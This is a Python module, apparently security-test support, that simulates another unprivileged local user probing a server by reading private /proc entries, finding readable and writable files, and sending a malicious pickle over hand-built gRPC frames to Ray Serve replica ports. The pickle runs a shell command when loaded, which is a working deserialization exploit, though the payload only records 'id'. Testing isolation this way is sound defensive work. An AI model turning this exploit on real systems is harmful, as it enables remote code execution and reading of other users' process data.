"""Access of another user of this host to a server: reads its files, and tries its ports.

Runs in a forked process without privileges, and uses only sockets and files.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import re
import socket
import stat
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

NOBODY = 65534
PRIVATE = ("environ", "maps", "mem", "fd", "cwd", "root")
"""Entries of a process in /proc that only its owner may read."""

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _SETTINGS = 0, 1, 4
_END_STREAM, _END_HEADERS = 1, 4
_PATH = "/ray.serve.ASGIService/HandleRequest"


def as_other_user(action: Callable[[], Any]) -> Any:
    """Return what an action returns, as JSON has it, when another user runs it."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            os.write(write, json.dumps(action()).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as answer:
        text = answer.read()
    os.waitpid(child, 0)
    return json.loads(text)


def readable_parts(process_ids: Iterable[int]) -> list[str]:
    """Return the private parts of processes that this user can open, list or follow."""
    found = []
    for process_id in process_ids:
        for part in PRIVATE:
            path = f"/proc/{process_id}/{part}"
            with contextlib.suppress(OSError):
                if part == "fd":
                    os.listdir(path)
                elif part in {"cwd", "root"}:
                    os.readlink(path)
                else:
                    Path(path).read_bytes()
                found.append(path)
    return found


def texts(paths: Iterable[str]) -> dict[str, str]:
    """Return the contents of those files that this user can read."""
    found = {}
    for path in paths:
        with contextlib.suppress(OSError):
            found[path] = Path(path).read_bytes().decode("latin-1")
    return found


def writable(paths: Iterable[str]) -> list[str]:
    """Return those files, sockets and folders that this user can write, or connect to."""
    return [path for path in paths if os.access(path, os.W_OK)]


def held_files(process_ids: Iterable[int]) -> set[str]:
    """Return the files and sockets that processes have open, have mapped, or have bound."""
    paths: set[str] = set()
    for process_id in process_ids:
        with contextlib.suppress(OSError):
            for descriptor in os.scandir(f"/proc/{process_id}/fd"):
                with contextlib.suppress(OSError):
                    paths.add(os.readlink(descriptor.path))
            maps = Path(f"/proc/{process_id}/maps").read_text()
            paths |= set(re.findall(r"(/\S+)$", maps, re.MULTILINE))
    return {path for path in paths if path.startswith("/") and is_data(path)}


def is_data(path: str) -> bool:
    """Whether a path is a file, a socket, a pipe or a folder: no device, and nothing of /proc."""
    try:
        mode = os.stat(path).st_mode
    except OSError:
        return False
    return not path.startswith("/proc/") and not stat.S_ISCHR(mode)


class Payload:
    """An object whose unpickling runs `id` and writes its output to a file."""

    def __init__(self, proof: Path) -> None:
        self._proof = proof

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"id > {self._proof}",)


def call_replica(port: int, payload: bytes, token: str | None) -> None:
    """Send a pickled request to a possible port of a replica, and wait for the answer."""
    headers = {
        ":method": "POST", ":scheme": "http", ":path": _PATH, ":authority": "a",
        "content-type": "application/grpc", "te": "trailers",
    }  # fmt: skip
    if token is not None:
        headers["authorization"] = f"Bearer {token}"
    message = b"\x0a" + _varint(len(payload)) + payload
    body = b"\0" + len(message).to_bytes(4, "big") + message
    block = b"".join(b"\0" + _text(name) + _text(value) for name, value in headers.items())
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as client:
        client.settimeout(2)
        client.sendall(
            _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS, 1, block)
            + _frame(_DATA, _END_STREAM, 1, body)
        )  # fmt: skip
        with client.makefile("rb") as reply:
            while len(head := reply.read(9)) == 9:
                reply.read(int.from_bytes(head[:3], "big"))
                if head[8] == 1 and head[3] in {_DATA, _HEADERS} and head[4] & _END_STREAM:
                    return


def pickled(proof: Path) -> bytes:
    """Return a pickle that writes `id` to a file when it is loaded."""
    return pickle.dumps(Payload(proof))


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def _text(text: str) -> bytes:
    assert len(text) < 127
    return bytes([len(text)]) + text.encode()


def _varint(number: int) -> bytes:
    encoded = b""
    while number >= 0x80:
        encoded += bytes([number & 0x7F | 0x80])
        number >>= 7
    return encoded + bytes([number])
